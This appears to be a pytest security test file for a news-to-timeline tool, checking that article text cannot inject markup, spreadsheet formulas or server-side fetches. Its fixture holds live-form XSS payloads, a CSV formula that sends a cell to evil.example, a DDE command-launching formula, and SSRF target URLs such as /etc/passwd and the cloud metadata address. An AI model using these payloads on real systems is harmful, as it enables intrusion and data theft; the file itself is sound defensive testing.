"""Untrusted article text never becomes markup or script in any output; spreadsheet formulas are
neutralised; --fetch reaches only public http(s) hosts unless allowed; nothing else touches the
network."""
from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pytest

from timeline.errors import UsageError
from timeline.read.fetch import check_public

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "samples"
sys.path.insert(0, str(ROOT / "tests"))
from cli_helpers import refused, timeline  # noqa: E402

PAYLOADS = ['</script><script>alert("s1")</script>', '<img src=x onerror=alert("s2")>',
            '<svg onload=alert("s3")>', '"><iframe src=javascript:alert("s4")>', "{{ 7*7 }}{% raw %}"]
HOSTILE = textwrap.dedent(f"""\
    title: Attack {PAYLOADS[0]} on the base
    published: 2021-08-02
    url: javascript:alert("s5")
    source: {PAYLOADS[1]}

    =HYPERLINK("http://evil.example/?"&A1) Militants attacked the {PAYLOADS[1]} base on Sunday, officials said.

    +1 Rockets struck {PAYLOADS[2]} near the airport on Monday, killing two {PAYLOADS[3]} guards.

    -2 The minister {PAYLOADS[4]} met {PAYLOADS[0]} envoys in Baghdad on Tuesday.

    @SUM(A1) Protesters =cmd|' /C calc'!A0 rallied on Wednesday after the attack.
    """)


class Tags(HTMLParser):
    """Every start tag with its attributes; script bodies kept apart."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def tags(markup: str) -> list[tuple[str, dict]]:
    parser = Tags()
    parser.feed(markup)
    parser.close()
    return parser.tags


def assert_inert(markup: str, allowed: set[str]) -> None:
    """Only the tags the template itself uses; no event handler or javascript: URL anywhere."""
    for tag, attrs in tags(markup):
        assert tag in allowed, (tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, value)
            assert not value.strip().lower().startswith(("javascript:", "data:text/html")), (tag, value)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> Path:
    work = tmp_path_factory.mktemp("hostile")
    (work / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
    for args in (["build", "hostile.txt", "-o", "page.html", "--json", "t.json"],
                 ["build", "hostile.txt", "--fragment", "-o", "frag.html"],
                 ["render", "t.json", "--format", "timelinejs", "-o", "tjs.json"],
                 ["render", "t.json", "--format", "csv", "-o", "t.csv"]):
        done = timeline(*args, "-q", cwd=work) if args[0] == "build" else timeline(*args, cwd=work)
        assert done.returncode == 0, done.stderr
    return work


def template_tags(page: str) -> set[str]:
    return {tag for tag, _ in tags(page)}


def test_the_hostile_article_gives_events(outputs):
    tl = json.loads((outputs / "t.json").read_text())
    assert len(tl["events"]) >= 2
    assert any("<" in e["headline"] or "=" in e["headline"] for e in tl["events"])


def test_page_shows_article_text_as_text(outputs, tmp_path):
    page = (outputs / "page.html").read_text()
    (tmp_path / "plain.txt").write_text("published: 2021-08-02\n\nMilitants attacked the base on Sunday, "
                                        "officials said. Rockets struck near the airport on Monday.\n")
    assert timeline("build", "plain.txt", "-q", "-o", "plain.html", cwd=tmp_path).returncode == 0
    plain = (tmp_path / "plain.html").read_text()
    assert_inert(page, template_tags(plain) | {"a"})
    # the same number of scripts as any page: no payload closed the chart's <script> early
    count = lambda markup, name: sum(1 for tag, _ in tags(markup) if tag == name)  # noqa: E731
    assert count(page, "script") == count(plain, "script")
    for href in (a.get("href", "") for tag, a in tags(page) if tag == "a"):
        assert href.startswith(("http://", "https://", "#")), href
    assert "alert(\"s1\")</script>" not in page and "<img src=x" not in page
    assert "{{ 7*7 }}" in page or "{{ 7*7 }}".replace("{", "&#123;") in page or "49" not in page


def test_fragment_shows_article_text_as_text(outputs):
    frag = (outputs / "frag.html").read_text()
    assert_inert(frag, {"div", "script"})
    assert sum(1 for tag, _ in tags(frag) if tag == "script") == 1


def test_timelinejs_text_is_escaped_html(outputs):
    """TimelineJS renders headline and text as HTML: only our own <p>, <small> and http(s) links."""
    data = json.loads((outputs / "tjs.json").read_text())
    fields = [data["title"]["text"]["headline"]]
    for slide in data["events"]:
        fields += [slide["text"].get("headline", ""), slide["text"].get("text", "")]
    assert len(fields) > 1
    for markup in fields:
        assert_inert(markup, {"p", "small", "a"})
        for tag, attrs in tags(markup):
            if tag == "a":
                assert attrs.get("href", "").startswith(("http://", "https://")), attrs


def test_csv_cells_never_start_a_formula(outputs):
    rows = list(csv.reader(io.StringIO((outputs / "t.csv").read_text())))
    assert len(rows) > 2
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any(cell.startswith(("'=", "'+", "'-", "'@")) for row in rows[1:] for cell in row)


def test_csv_neutralises_every_column():
    from timeline.merge.synthetic import day, event, timeline as synthetic
    from timeline.render import to_csv

    for lead in ("=", "+", "-", "@", "\t", "\r"):
        tl = synthetic("d", [event("d", 1, "ATTACK", day("2020-01-08"), f"{lead}1+1 strike", [f"{lead}cmd"])])
        for row in list(csv.reader(io.StringIO(to_csv(tl), newline="")))[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (lead, cell)


# ------------------------------------------------------------------------------------- fetching

@pytest.mark.parametrize("url", ["file:///etc/passwd", "ftp://example.org/a.txt", "gopher://example.org/",
                                 "data://text/plain,hello", "FILE:///etc/hosts"])
def test_fetch_refuses_other_schemes(url):
    refused(timeline("extract", url, "--fetch", "--allow-private"), "scheme", "only http and https")


@pytest.mark.parametrize("url", ["http://127.0.0.1/", "http://localhost/", "http://10.1.2.3/",
                                 "http://192.168.0.1/x", "http://169.254.169.254/latest/meta-data/",
                                 "http://[::1]/", "http://0.0.0.0/", "http://[::ffff:127.0.0.1]/",
                                 "https://172.16.5.4/", "http://100.64.0.1/"])
def test_private_addresses_are_refused(url):
    with pytest.raises(UsageError, match="local or private address.*--allow-private"):
        check_public(url)


def test_public_addresses_pass():
    check_public("http://93.184.216.34/story.html")   # a literal: no DNS query


def test_fetch_of_this_machine_needs_allow_private(tmp_path, server):
    (tmp_path / "story.txt").write_text("published: 2021-08-02\n\nRockets struck the base on Sunday.\n")
    refused(timeline("extract", f"{server}/story.txt", "--fetch"), "127.0.0.1", "--allow-private")
    done = timeline("extract", f"{server}/story.txt", "--fetch", "--allow-private", "-q")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["documents"][0]["published"] == "2021-08-02"


NO_NETWORK = textwrap.dedent("""
    import socket, sys
    def refuse(*args, **kwargs):
        raise AssertionError("network access")
    socket.socket.connect = socket.socket.connect_ex = refuse
    socket.getaddrinfo = socket.create_connection = refuse
    from timeline.cli import run
    sys.argv = ["timeline"] + sys.argv[1:]
    run()
""")


@pytest.mark.parametrize("args", [
    ["build", str(SAMPLES), "-q", "--jobs", "1", "-o", "page.html", "--json", "t.json"],
    ["build", str(SAMPLES), "-q", "--jobs", "1", "--format", "timelinejs", "-o", "t.tjs.json"],
    ["build", str(SAMPLES), "-q", "--jobs", "1", "--plotlyjs", "cdn", "-o", "cdn.html"],
])
def test_no_network_without_urls(tmp_path, args):
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    done = subprocess.run([sys.executable, "-c", NO_NETWORK, *args], cwd=tmp_path, capture_output=True,
                          text=True, timeout=300, env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "network access" not in done.stderr
